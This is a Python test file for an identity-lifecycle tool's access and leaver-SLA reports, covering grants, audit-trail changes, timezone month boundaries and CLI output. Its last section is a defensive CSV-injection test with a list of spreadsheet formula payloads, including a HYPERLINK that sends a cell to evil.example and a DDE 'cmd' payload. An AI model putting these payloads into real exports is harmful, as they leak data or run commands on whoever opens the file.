"""`jml report access` and `jml report sla` over a store built by hand (SQLite in a temp dir):
who has what, since when and by which rule; what changed since a date (from the audit
trail's push records); every leaver of a month with met / breached / pending."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
import yaml

from jml import cli, reports
from jml import config as config_mod
from jml.model import Action, Operation, Person, PersonState, Priority, Status
from jml.runtime import Runtime
from jml.store.repo import PersonSave, Store
from jml.store.tables import SlaClockRow

C = SlaClockRow.__table__  # type: ignore[attr-defined]
T0 = dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC)


def at(days: float) -> dt.datetime:
    return T0 + dt.timedelta(days=days)


@pytest.fixture
def setup(tmp_path: Path) -> tuple[Runtime, Path]:
    doc = {"state": {"url": f"sqlite:///{tmp_path / 'r.db'}"},
           "sources": {"hris": {"location": str(tmp_path), "timezone": "Europe/Berlin"}},
           "connectors": {"demo": {"type": "scim", "url": "http://127.0.0.1:9/", "token_env": "X"},
                          "aws": {"type": "aws_identity_center", "scim_url": "http://127.0.0.1:9/", "token_env": "X",
                                  "instance_arn": "arn:aws:sso:::instance/ssoins-1"}}}
    path = tmp_path / "jml.yaml"
    path.write_text(yaml.safe_dump(doc), encoding="utf-8")
    cfg = config_mod.load(path)
    now = {"t": at(10)}
    rt = Runtime(cfg, clock=lambda: now["t"], store_override=Store(cfg.state.url))
    people = [PersonState("E1", Person("E1", Status.ACTIVE, first_name="Ana", last_name="Ng",
                                       work_email="ana@acme.example")),
              PersonState("E2", Person("E2", Status.TERMINATED, first_name="Ben", last_name="Ito",
                                       work_email="ben@acme.example"))]
    rt.store.save_people([PersonSave(s, None, None) for s in people], T0)

    def push(op: Operation, when: dt.datetime) -> None:
        rt.store.record_success(op, "r-" + op.employee_id if op.action is Action.CREATE else None, when)
        rt.audit.append("push", {"operation_id": 1, "plan_id": "p1", "connector": op.connector,
                                 "action": op.action.value, "detail": dict(op.detail), "result": "success"},
                        now=when, subject=op.employee_id)

    for eid, user in (("E1", "ana@acme.example"), ("E2", "ben@acme.example")):
        push(Operation("demo", Action.CREATE, eid, {"username": user, "active": True, "attributes": {}}), at(0))
        push(Operation("demo", Action.ADD_MEMBER, eid, {"username": user, "group": "group:All Staff",
                                                        "rule": "everyone"}), at(0))
    push(Operation("aws", Action.CREATE, "E1", {"username": "ana@acme.example", "active": True, "attributes": {}}),
         at(0))
    push(Operation("aws", Action.ASSIGN, "E1", {"username": "ana@acme.example", "grant": "Developer@111111111111",
                                                "rule": "engineering"}), at(5))
    push(Operation("demo", Action.DEACTIVATE, "E2", {"username": "ben@acme.example"}, Priority.LEAVER), at(6))
    push(Operation("demo", Action.REMOVE_MEMBER, "E2", {"username": "ben@acme.example", "group": "group:All Staff"},
                   Priority.LEAVER), at(6))
    return rt, path


def test_access_csv_lists_each_grant_with_rule_and_since(setup: tuple[Runtime, Path]) -> None:
    rt, _ = setup
    out = io.StringIO()
    reports.access(rt, out, fmt="csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    got = {(r["employee_id"], r["connector"], r["account"], r["grant"], r["rule"], r["since"][:10], r["change"])
           for r in rows}
    assert got == {
        ("E1", "aws", "active", "Developer@111111111111", "engineering", "2026-03-07", ""),
        ("E1", "demo", "active", "group:All Staff", "everyone", "2026-03-02", ""),
        ("E2", "demo", "inactive", "", "", "2026-03-02", ""),  # no grants left: the account alone
    }
    assert all(r["name"] for r in rows)
    assert list(rows[0]) == list(reports.ACCESS_COLUMNS)


def test_access_changes_since_come_from_the_audit_trail(setup: tuple[Runtime, Path]) -> None:
    rt, _ = setup
    out = io.StringIO()
    reports.access(rt, out, fmt="json", changes_since=at(4))
    doc = json.loads(out.getvalue())
    by = {(a["employee_id"], a["connector"]): a for a in doc["accounts"]}
    assert [(c["action"], c["grant"]) for c in by[("E1", "aws")]["changes"]] == [("assign", "Developer@111111111111")]
    assert by[("E1", "demo")]["changes"] == []
    assert [(c["action"], c["grant"]) for c in by[("E2", "demo")]["changes"]] == [
        ("deactivate", None), ("remove_member", "group:All Staff")]
    assert by[("E2", "demo")]["grants"] == [] and by[("E2", "demo")]["account"] == "inactive"
    assert by[("E1", "aws")]["grants"] == [{"grant": "Developer@111111111111", "rule": "engineering",
                                            "since": at(5).isoformat()}]

    out = io.StringIO()
    reports.access(rt, out, fmt="csv", changes_since=at(4))
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    changes = {(r["employee_id"], r["connector"], r["grant"], r["change"]) for r in rows if r["change"]}
    assert changes == {("E1", "aws", "Developer@111111111111", "assign"), ("E2", "demo", "", "deactivate"),
                       ("E2", "demo", "group:All Staff", "remove_member")}


def test_access_cli(setup: tuple[Runtime, Path], capsys: pytest.CaptureFixture[str]) -> None:
    _, path = setup
    assert cli.main(["--config", str(path), "report", "access", "--format", "json",
                     "--changes-since", "2026-03-06"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["changes_since"] == "2026-03-06T00:00:00+00:00" and len(doc["accounts"]) == 3
    assert cli.main(["--config", str(path), "report", "access", "--changes-since", "last week"]) == 2


def _clock(rt: Runtime, eid: str, connector: str, start: dt.datetime, minutes: float | None,
           breached: bool = False, check: str | None = None) -> None:
    with rt.store.engine.begin() as conn:
        conn.execute(C.insert().values(connector=connector, employee_id=eid, started_at=start,
                                       deadline=start + dt.timedelta(minutes=10),
                                       verified_at=start + dt.timedelta(minutes=minutes) if minutes is not None
                                       else None, breached=breached, predicted_breach=False, last_check=check))


def test_sla_report_lists_every_leaver_of_the_month(setup: tuple[Runtime, Path],
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    rt, path = setup
    # 1 March 00:30 in Berlin is still February in UTC: it belongs to March here.
    _clock(rt, "E2", "demo", dt.datetime(2026, 2, 28, 23, 30, tzinfo=dt.UTC), 4)
    _clock(rt, "E2", "aws", dt.datetime(2026, 2, 28, 23, 30, tzinfo=dt.UTC), 25, breached=True)
    _clock(rt, "E3", "demo", at(10) - dt.timedelta(minutes=5), None)  # in flight, 5 minutes left
    _clock(rt, "E4", "demo", at(9), None)  # in flight, past its deadline
    _clock(rt, "E5", "demo", at(8), None, check="cancelled|2026-03-10T09:00:00+00:00|no longer a leaver")
    _clock(rt, "E6", "demo", dt.datetime(2026, 2, 28, 22, 30, tzinfo=dt.UTC), 1)  # February in Berlin
    month, rows = reports.sla_rows(rt, "2026-03")
    assert month == "2026-03"
    assert [(r["employee_id"], r["connector"], r["result"]) for r in rows] == [
        ("E2", "aws", "breached"), ("E2", "demo", "met"), ("E5", "demo", "cancelled"), ("E4", "demo", "breached"),
        ("E3", "demo", "pending")]
    assert rows[1]["effective"] == "2026-03-01T00:30:00+01:00" and rows[1]["seconds"] == 240
    assert rows[1]["verified"] == "2026-03-01T00:34:00+01:00"

    capsys.readouterr()
    assert cli.main(["--config", str(path), "report", "sla", "--month", "2026-03"]) == 0
    text = capsys.readouterr().out
    # (the CLI reads the real clock: whether E3 is still pending depends on today)
    assert text.splitlines()[0].startswith("deprovision SLA, 2026-03 (Europe/Berlin): 4 leaver(s), "
                                           "5 deprovision(s): 1 met, ")
    assert text.splitlines()[0].endswith(", 1 cancelled")
    e2 = [line for line in text.splitlines() if line.startswith("E2")]
    assert len(e2) == 2 and e2[1].split()[-1] == "met" and "4m" in e2[1]
    assert cli.main(["--config", str(path), "report", "sla", "--month", "2026-02"]) == 0
    assert "1 leaver(s)" in capsys.readouterr().out
    assert cli.main(["--config", str(path), "report", "sla", "--month", "March"]) == 2


# ---- issue 14 finding 5: no formula reaches a spreadsheet (OWASP CSV injection) ----------
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_access_csv_neutralises_formulas(setup: tuple[Runtime, Path], value: str) -> None:
    rt, _ = setup
    rt.store.save_people([PersonSave(PersonState("E3", Person("E3", Status.ACTIVE, first_name=value, last_name="",
                                                              work_email=value)), None, None)], T0)
    op = Operation("demo", Action.CREATE, "E3", {"username": value, "active": True, "attributes": {}})
    rt.store.record_success(op, "r-E3", at(0))
    rt.store.record_success(Operation("demo", Action.ADD_MEMBER, "E3", {"username": value, "group": value,
                                                                        "rule": value}), None, at(0))
    out = io.StringIO()
    reports.access(rt, out, fmt="csv")
    every = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert {r["employee_id"] for r in every} == {"E1", "E2", "E3"}  # a CR inside a cell splits no row
    rows = [r for r in every if r["employee_id"] == "E3"]
    assert len(rows) == 1
    for r in rows:
        for col in ("name", "email", "username", "grant", "rule"):
            cell = r[col]
            assert cell, col
            assert cell[0] not in "=+-@\t\r", (col, cell)
            assert cell == "'" + value.strip() or cell == "'" + value, (col, cell)
    # JSON is data, not a spreadsheet: it keeps the values as they are.
    out = io.StringIO()
    reports.access(rt, out, fmt="json")
    [e3] = [a for a in json.loads(out.getvalue())["accounts"] if a["employee_id"] == "E3"]
    assert e3["username"] == value


def test_access_csv_leaves_ordinary_cells_alone(setup: tuple[Runtime, Path]) -> None:
    rt, _ = setup
    out = io.StringIO()
    reports.access(rt, out, fmt="csv")
    assert "'" not in out.getvalue()
